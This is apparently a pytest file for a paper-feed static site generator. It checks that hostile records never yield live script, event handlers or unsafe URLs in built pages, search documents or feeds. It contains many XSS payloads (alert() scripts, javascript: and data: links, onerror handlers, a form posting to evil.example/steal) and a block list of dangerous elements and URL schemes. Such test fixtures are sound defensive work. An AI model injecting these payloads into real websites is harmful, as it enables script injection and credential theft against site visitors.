"""Hostile but valid records: the built site has no script, event handler or unsafe URL not from the theme."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import lxml.html
import pytest
from lxml import etree

from generator import config, records
from generator.data import feed_links
from generator.model import Tag
from generator.records import abstracts
from generator.site import search
from tests.browser_support import build
from tests.sitebuild import ROOT

SITE_URL = "https://papers.example.org/feed/"
SUBSCRIBE_URL = "https://lists.example.org/subscribe"
SITE_NAME = config.load(ROOT / "mkdocs.yml").site_name
SMALL = ROOT / "tests" / "fixtures" / "small" / "content"

# One-line fields cannot hold '<' or '>' (check refuses them), so the hostile ones here are what is left:
# quotes that would close an attribute, and entities that would become markup if anything decoded them
# twice. Every page must show them exactly as written.
TITLE = (
    '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; "Quoted" \'single\' & " onmouseover="alert(1)" x=\''
)
OLDER_TITLE = "&#60;svg onload=alert(2)&#62; & javascript:alert(3) older paper"
AUTHORS = ["&lt;b&gt;Mallory&lt;/b&gt; &#x3C;script&#x3E;alert(4)", 'Eve " onmouseover=alert(5) x="']
TAG_NAME = "Evil &lt;script&gt;alert('tag')&lt;/script&gt; & \"tags\""
TAG_DESCRIPTION = (
    'A &lt;b&gt;bold&lt;/b&gt; &lt;img src=x onerror=alert(6)&gt; description & " onclick="alert(6)'
)
# What check accepts: raw HTML, which the sanitizer must take apart (links to other than http(s) are
# refused by check, so they are in UNSAFE_LINKS below, for the sanitizer alone).
ABSTRACT = """\
Opening words <script>alert(7)</script> then <iframe src="https://evil.example/"></iframe> and
<img src="https://evil.example/x.png" onerror=alert(8)> and
<a href="https://example.org/" onclick="alert(9)">a
handler</a> and <svg onload=alert(11)><circle r=1></circle></svg> and
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">.

<style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="pw">
<button formaction="https://evil.example/">go</button></form>

Math stays: $x^2$, a `<script>alert(14)</script>` in code, &lt;script&gt;alert(15)&lt;/script&gt; as
entities, <math><mi onclick="alert(16)">y</mi></math>.
"""
OLDER_ABSTRACT = """\
Display math $$\\frac{a}{b}$$ next to
<div style="position:fixed;inset:0" onmouseover="alert(20)">a cover</div> and
<meta http-equiv="refresh" content="0;url=https://evil.example/"> and <base href="https://evil.example/">
and <link rel="stylesheet" href="https://evil.example/x.css"> and
<p><a href="https://example.org/ok">a fine link</a>.
"""
# Links that check refuses in a record; the sanitizer removes them all the same, should one get past it.
UNSAFE_LINKS = """\
<img src=x onerror=alert(8)> <a href="javascript:alert(9)">a js link</a> and [x](javascript:alert(10))
and <a href="data:text/html,<script>alert(12)</script>">data</a> and
<button formaction="javascript:alert(13)">go</button>
<math><mi onclick="alert(16)" href="javascript:alert(17)">y</mi></math> and
<a href="JaVaScRiPt:alert(18)">mixed case</a>, <a href="java&#x09;script:alert(19)">a tab</a>,
<meta http-equiv="refresh" content="0;url=javascript:alert(21)"> <a href="vbscript:msgbox(1)">v</a>.
"""

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "animate", "set",
    "animatemotion", "animatetransform",
}  # fmt: skip
# The theme's forms, by class, and where each submits to: the search box, Material's palette switch, and
# the subscribe box.
THEME_FORMS = {
    "pf-search": SITE_URL + "search/",
    "md-header__option": None,
    "pf-subscribe__form": SUBSCRIBE_URL,
}


def _quoted(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def write_hostile_content(content: Path) -> None:
    """Two hostile records, a benign one on the same day, and a tag vocabulary with markup."""
    papers = content / "papers" / "2025"
    papers.mkdir(parents=True)
    (content / "tags.yml").write_text(
        f"evil:\n  name: {_quoted(TAG_NAME)}\n  description: {_quoted(TAG_DESCRIPTION)}\n"
        'plain:\n  name: "Plain"\n  description: "Benign."\n',
        encoding="utf-8",
    )
    (papers / "hostile-paper.md").write_text(
        f"---\ntitle: {_quoted(TITLE)}\ndate: 2025-03-14\ntags: [evil, plain]\n"
        f'authors: [{", ".join(_quoted(a) for a in AUTHORS)}]\narxiv: "2503.99999"\n'
        "links:\n  code: https://example.org/code?a=1&b=2&lt;script&gt;\n"
        "  slides-and-video: https://example.org/talk#x=1&y=%3Cscript%3E\n"
        f"submitted_by: mallory\nupvotes: 3\n---\n{ABSTRACT}",
        encoding="utf-8",
    )
    (papers / "neighbour.md").write_text(
        '---\ntitle: "A benign neighbour"\ndate: 2025-03-14\ntags: [plain]\n---\nNothing to see.\n',
        encoding="utf-8",
    )
    (papers / "older-hostile.md").write_text(
        f"---\ntitle: {_quoted(OLDER_TITLE)}\ndate: 2025-03-13\ntags: [evil]\n"
        f"authors: [{_quoted(AUTHORS[0])}]\n---\n{OLDER_ABSTRACT}",
        encoding="utf-8",
    )


@dataclass(frozen=True)
class Theme:
    """What the theme itself puts into pages, read from a site built from the benign fixture."""

    inline_scripts: frozenset[str]
    styles: frozenset[str]
    style_attributes: frozenset[str]


def _pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def _parse(path: Path) -> lxml.html.HtmlElement:
    return lxml.html.document_fromstring(path.read_bytes())


def theme_of(site: Path) -> Theme:
    scripts: set[str] = set()
    styles: set[str] = set()
    style_attributes: set[str] = set()
    for path in _pages(site):
        doc = _parse(path)
        scripts.update(s.text or "" for s in doc.iter("script") if s.get("src") is None)
        styles.update(s.text or "" for s in doc.iter("style"))
        style_attributes.update(str(e.get("style")) for e in doc.iter() if e.get("style") is not None)
    return Theme(frozenset(scripts), frozenset(styles), frozenset(style_attributes))


def _scheme(url: str) -> str:
    # Browsers drop ASCII tabs, newlines and surrounding controls before they read a scheme.
    cleaned = re.sub(r"[\x00-\x20]", "", url)
    return urlsplit(cleaned).scheme.lower()


def unsafe_markup(root: lxml.html.HtmlElement, page_url: str, theme: Theme) -> list[str]:
    """Every script, handler, unsafe URL or embedding element under `root` not put there by the theme."""
    found: list[str] = []
    scripts_root = urlsplit(urljoin(SITE_URL, "assets/javascripts/")).path
    for element in root.iter():
        if not isinstance(element.tag, str):  # comments and processing instructions
            continue
        tag = element.tag.lower()
        where = f"<{tag}>"
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{where} has an event handler {name}={value!r}")
            elif name.lower() in {"srcdoc", "srcset"} or (
                name.lower() in URL_ATTRIBUTES and _scheme(value) not in SAFE_SCHEMES
            ):
                found.append(f"{where} has {name}={value!r}")
        style = element.get("style")
        if style is not None and style not in theme.style_attributes:
            found.append(f"{where} has style={style!r}")
        if tag == "script" and element.get("type") == "application/ld+json":
            # A data block, which no browser runs: it must be JSON, with no "<" to end the element early.
            text = element.text or ""
            if "<" in text or not _is_json(text):
                found.append(f"<script type='application/ld+json'> {text!r} is not plain JSON")
        elif tag == "script":
            src = element.get("src")
            if src is not None:
                if not urlsplit(urljoin(page_url, src)).path.startswith(scripts_root) or element.text:
                    found.append(f"<script src={src!r}> is not one of the theme's")
            elif (element.text or "") not in theme.inline_scripts:
                found.append(f"<script> {element.text!r} is not one of the theme's")
        elif tag == "style" and (element.text or "") not in theme.styles:
            found.append(f"<style> {element.text!r} is not the theme's")
        elif tag in FORBIDDEN_ELEMENTS:
            found.append(f"{where} is there")
        elif tag == "meta" and element.get("http-equiv") is not None:
            found.append(f"<meta http-equiv={element.get('http-equiv')!r}> is there")
        elif tag == "link" and not any(a.tag == "head" for a in element.iterancestors()):
            found.append(f"<link href={element.get('href')!r}> is outside the head")
        elif tag == "form":
            classes = set(element.get("class", "").split())
            kind = next((c for c in THEME_FORMS if c in classes), None)
            action = element.get("action")
            target = None if action is None else urljoin(page_url, action)
            if kind is None or target != THEME_FORMS[kind]:
                found.append(
                    f"<form class={element.get('class')!r} action={element.get('action')!r}> is there"
                )
    return found


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def _fragment(html: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(html, create_parent="div")


NO_THEME = Theme(frozenset(), frozenset(), frozenset())


@pytest.fixture(scope="module")
def theme(tmp_path_factory: pytest.TempPathFactory) -> Theme:
    site = build(tmp_path_factory.mktemp("benign"), SMALL, SITE_URL, page_size=1, subscribe_url=SUBSCRIBE_URL)
    return theme_of(site)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    write_hostile_content(tmp / "content")
    report = records.check(tmp / "content")
    assert [str(p) for p in report.problems] == [], "the hostile records must be valid to reach the site"
    return build(tmp, tmp / "content", SITE_URL, page_size=1, subscribe_url=SUBSCRIBE_URL)


def test_the_hostile_content_reaches_every_kind_of_page(hostile: Path) -> None:
    """Guards the other tests: they would pass vacuously if the hostile text never reached the site."""
    paper = _parse(hostile / "papers" / "hostile-paper" / "index.html")
    assert paper.findtext(".//h1") == TITLE
    assert "Opening words" in paper.find_class("pf-abstract")[0].text_content()
    # $x^2$ is math; the raw <math> beside it is not read as markup (only $...$ and \(...\) make MathML).
    assert len(paper.find_class("pf-abstract")[0].findall(".//math")) == 1
    for page in [
        "index.html",
        "date/2025-03-14/index.html",
        "tags/evil/index.html",
        "week/2025-W11/index.html",
    ]:
        assert TITLE in _parse(hostile / page).text_content(), page
    assert (hostile / "tags" / "evil" / "page" / "2" / "index.html").is_file()


def test_no_page_has_a_script_handler_or_unsafe_url_that_the_theme_did_not_put_there(
    hostile: Path, theme: Theme
) -> None:
    problems = []
    for path in _pages(hostile):
        shown = str(path.relative_to(hostile))
        page_url = urljoin(SITE_URL, shown)
        doc = _parse(path)
        problems += [f"{shown}: {p}" for p in unsafe_markup(doc, page_url, theme)]
        # The parser is not a browser: every "<script" in the raw text must be an element it found.
        raw = path.read_text(encoding="utf-8")
        if len(re.findall(r"<script\b", raw, re.IGNORECASE)) != len(list(doc.iter("script"))):
            problems.append(f"{shown}: has a '<script' that is not a script element")
    assert problems == []


def test_titles_and_descriptions_are_escaped_exactly_once(hostile: Path) -> None:
    paper = _parse(hostile / "papers" / "hostile-paper" / "index.html")
    assert paper.findtext(".//title") == f"{TITLE} - {SITE_NAME}"
    description = paper.xpath("//meta[@name='description']/@content")
    # The abstract's text without its tags (scripts and styles with their text), code as written, math as
    # LaTeX: shorter than the 200 characters of a description, so not cut.
    assert description == [
        "Opening words then and and a handler and and . go Math stays: $x^2$, a <script>alert(14)</script> in"
        " code, &lt;script&gt;alert(15)&lt;/script&gt; as entities, y."
    ]
    # The header shows the site's name alone (Material's copy of the page title there is left out).
    title = paper.xpath("//header//div[contains(@class, 'md-header__title')]")
    assert [t.text_content() for t in title] == [SITE_NAME]
    assert paper.findtext(".//h1") == TITLE
    authors = paper.xpath("//dl[@class='pf-meta']/dd[@class='pf-authors']")
    assert [e.text_content() for e in authors] == [", ".join(AUTHORS)]
    # The related papers are named by their titles (older-hostile is one: it shares the evil tag).
    related = paper.xpath("//section[@class='pf-related']//a")
    assert OLDER_TITLE in [e.text_content() for e in related]
    assert [a.text_content() for a in paper.xpath("//ul[@class='pf-tags']//a")] == [TAG_NAME, "Plain"]
    assert [a.get("href") for a in paper.find_class("pf-links")[0].iter("a")] == [
        "https://arxiv.org/abs/2503.99999",
        "https://arxiv.org/pdf/2503.99999",
        "https://huggingface.co/papers/2503.99999",
        "https://example.org/code?a=1&b=2&lt;script&gt;",
        "https://example.org/talk#x=1&y=%3Cscript%3E",
    ]
    assert "Submitted by@mallory" in paper.find_class("pf-meta")[0].text_content()

    neighbour = _parse(hostile / "papers" / "neighbour" / "index.html")
    assert [a.text_content() for a in neighbour.xpath("//a[@rel='prev']")] == [f"← {TITLE}"]

    tag = _parse(hostile / "tags" / "evil" / "index.html")
    assert tag.findtext(".//title") == f"{TAG_NAME} - {SITE_NAME}"
    assert tag.findtext(".//h1") == TAG_NAME
    assert tag.xpath("//meta[@name='description']/@content") == [TAG_DESCRIPTION]
    assert tag.find_class("pf-lede")[0].text_content() == TAG_DESCRIPTION
    feed_titles = tag.xpath("//link[contains(@rel, 'alternate')]/@title")
    assert feed_titles[0] == f"{feed_links.feed_title(config.SiteConfig(site_name=SITE_NAME), _evil())} (RSS)"
    assert TAG_NAME in feed_titles[0]

    older = _parse(hostile / "papers" / "older-hostile" / "index.html")
    assert older.findtext(".//title") == f"{OLDER_TITLE} - {SITE_NAME}"
    assert older.findtext(".//h1") == OLDER_TITLE


def _evil() -> Tag:
    return Tag("evil", TAG_NAME, TAG_DESCRIPTION)


def test_the_search_documents_hold_no_live_markup(hostile: Path) -> None:
    """What Pagefind indexes, and the search box shows, is written escaped: it reads back as written."""
    feed = records.load_feed(hostile.parent / "content")
    problems = []
    for paper in feed.papers:
        document = lxml.html.document_fromstring(search.paper_document(paper, feed.tags))
        problems += [f"{paper.slug}: {p}" for p in unsafe_markup(document, SITE_URL, NO_THEME)]
    assert problems == []
    paper = feed.by_slug()["hostile-paper"]
    document = lxml.html.document_fromstring(search.paper_document(paper, feed.tags))
    assert document.findtext(".//h1") == TITLE
    assert document.xpath("//main/p[2]/text()") == [", ".join(AUTHORS)]
    assert document.xpath("//*[@data-pagefind-filter='tag']/text()") == [TAG_NAME, "Plain"]
    assert document.xpath("//@data-pagefind-meta") == ["url:papers/hostile-paper/", "date:2025-03-14"]


def test_feeds_carry_no_live_markup(hostile: Path) -> None:
    """A light check; tests/test_feeds.py covers the feeds in depth."""
    problems = []
    xml_files = sorted(hostile.rglob("*.xml")) + sorted(hostile.rglob("*.opml"))
    for path in xml_files:
        shown = str(path.relative_to(hostile))
        raw = path.read_bytes()
        if re.search(rb"<script\b", raw, re.IGNORECASE):
            problems.append(f"{shown}: has a <script element")
        for text in _html_texts(etree.fromstring(raw)):
            problems += [f"{shown}: {p}" for p in unsafe_markup(_fragment(text), SITE_URL, NO_THEME)]
    for path in sorted(hostile.rglob("feed.json")):
        shown = str(path.relative_to(hostile))
        for item in json.loads(path.read_text(encoding="utf-8"))["items"]:
            fragment = _fragment(item["content_html"])
            problems += [f"{shown}: {p}" for p in unsafe_markup(fragment, SITE_URL, NO_THEME)]
    assert len(xml_files) > 4
    assert problems == []
    # Readers render an RSS description as HTML: the tag's plain-text description must read as it was written.
    channel = etree.fromstring((hostile / "tags" / "evil" / "feed.xml").read_bytes()).find("channel")
    assert channel is not None
    assert _fragment(channel.findtext("description", "")).text_content() == TAG_DESCRIPTION


def _html_texts(root: etree._Element) -> Iterable[str]:
    """The text of every feed element that holds HTML (escaped inside the XML): RSS descriptions and
    content:encoded, and Atom text constructs of type html."""
    for element in root.iter():
        if not isinstance(element.tag, str) or not element.text:
            continue
        name = etree.QName(element).localname
        if name in {"description", "encoded"} or element.get("type") == "html":
            yield element.text


def test_the_checker_finds_each_kind_of_unsafe_markup() -> None:
    """The checks above can fail: each hostile construct, left live, is reported."""
    page = lxml.html.document_fromstring(
        "<html><head><title>t</title></head><body>"
        '<script>alert(1)</script><script src="https://evil.example/x.js"></script>'
        '<img src="x" onerror="alert(2)"><a href="javascript:alert(3)">a</a><a href="java\tscript:x">b</a>'
        '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"></form>'
        '<form class="pf-subscribe__form" action="https://evil.example/"></form>'
        '<style>body{}</style><p style="color:red">c</p><link rel="stylesheet" href="https://e.example/x.css">'
        '<meta http-equiv="refresh" content="0"><math><mi href="data:text/html,x">y</mi></math>'
        '<script type="application/ld+json">{"a": "</b>"}</script>'
        '<script type="application/ld+json">{</script>'
        "</body></html>"
    )
    assert unsafe_markup(page, SITE_URL, NO_THEME) == [
        "<script> 'alert(1)' is not one of the theme's",
        "<script src='https://evil.example/x.js'> is not one of the theme's",
        "<img> has an event handler onerror='alert(2)'",
        "<a> has href='javascript:alert(3)'",
        "<a> has href='java\\tscript:x'",
        "<iframe> is there",
        "<form class=None action='https://evil.example/'> is there",
        "<form class='pf-subscribe__form' action='https://evil.example/'> is there",
        "<style> 'body{}' is not the theme's",
        "<p> has style='color:red'",
        "<link href='https://e.example/x.css'> is outside the head",
        "<meta http-equiv='refresh'> is there",
        "<mi> has href='data:text/html,x'",
        """<script type='application/ld+json'> '{"a": "</b>"}' is not plain JSON""",
        "<script type='application/ld+json'> '{' is not plain JSON",
    ]


def test_the_sanitizer_alone_removes_links_that_check_refuses() -> None:
    html = abstracts.render(UNSAFE_LINKS)
    assert "alert" not in "".join(_fragment(html).xpath("//@*"))  # no attribute kept any of them
    assert unsafe_markup(_fragment(html), SITE_URL, NO_THEME) == []
    assert "a js link" in _fragment(html).text_content()  # the text stays, the link goes


def test_check_refuses_the_links_the_sanitizer_would_have_to_remove(tmp_path: Path) -> None:
    write_hostile_content(tmp_path)
    record = tmp_path / "papers" / "2025" / "neighbour.md"
    record.write_text(
        f'---\ntitle: "A"\ndate: 2025-03-14\ntags: [plain]\n---\n{UNSAFE_LINKS}', encoding="utf-8"
    )
    refused = {(p.line, p.message.split(",")[0]) for p in records.check(tmp_path).problems}
    assert refused == {
        (6, "links to 'x'"),
        (6, "links to 'javascript:alert(9)'"),
        (6, "links to 'javascript:alert(10)'"),
        (7, "links to 'data:text/html"),
        (8, "links to 'javascript:alert(13)'"),
        (9, "links to 'javascript:alert(17)'"),
        (10, "links to 'JaVaScRiPt:alert(18)'"),
        (10, "links to 'java&#x09;script:alert(19)'"),
        (11, "links to 'vbscript:msgbox(1)'"),
    }


def test_markup_in_a_link_kind_is_rejected_before_it_reaches_a_page(tmp_path: Path) -> None:
    """Link kinds are shown as button labels; the validator allows only short lowercase words there."""
    write_hostile_content(tmp_path)
    record = tmp_path / "papers" / "2025" / "neighbour.md"
    record.write_text(
        '---\ntitle: "A"\ndate: 2025-03-14\ntags: [plain]\nlinks:\n  "<b>code</b>": https://example.org/\n'
        "---\nText.\n",
        encoding="utf-8",
    )
    problems = [str(p) for p in records.check(tmp_path).problems]
    assert problems == [
        f"{record.as_posix()}:6: links.<b>code</b>: a link kind is a short lowercase word, such as code,"
        " project or pdf"
    ]
